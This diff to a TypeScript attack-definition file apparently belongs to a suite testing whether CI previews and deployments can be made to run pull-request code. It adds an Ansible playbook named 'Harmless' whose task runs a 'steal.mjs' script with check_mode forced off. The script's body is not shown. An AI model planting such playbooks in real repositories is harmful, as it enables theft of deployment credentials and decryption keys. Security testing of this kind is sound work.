@@ -130,8 +130,11 @@ export interface Attack {
   name: string;
   branch: string;
   fork?: { branch: string };
-  /** Its job of a protected environment, and what that logs in as where somebody starts it who may deploy there. */
-  deployment?: { job: string; identity: string };
+  /**
+   * A job of a protected environment that runs it, what that logs in as where somebody starts it who may deploy there, and
+   * whether it has the key of the state as well.
+   */
+  deployment?: { job: string; identity: string; decrypts?: true };
   changes: (known: Known, read: (path: string) => string) => Changes;
 }
 
@@ -150,11 +153,12 @@ const trigger = (read: (path: string) => string): Changes => ({ "index.ts": `${r
 
 export const attacks: readonly Attack[] = [
   {
-    name: "in a playbook, which Ansible would run where the preview runs it",
+    name: "in a playbook, which Ansible runs where the exact preview checks the machines",
     branch: "playbook",
+    deployment: { job: "exact:dev", identity: "dev-exact", decrypts: true },
     changes: (known) => ({
       "steal.mjs": code(known),
-      "ansible/playbooks/base.yml": [
+      "ansible/playbooks/environment.yml": [
         "---",
         "- name: Harmless",
         "  hosts: localhost",
@@ -162,8 +166,11 @@ export const attacks: readonly Attack[] = [
         "  gather_facts: false",
         "  tasks:",
         "    - name: Take",
-        "      ansible.builtin.command: node ../../steal.mjs",
+        "      ansible.builtin.command:",
+        "        cmd: node steal.mjs",
+        '        chdir: "{{ playbook_dir }}/../.."',
         "      changed_when: false",
+        "      check_mode: false",
         "",
       ].join("\n"),
     }),
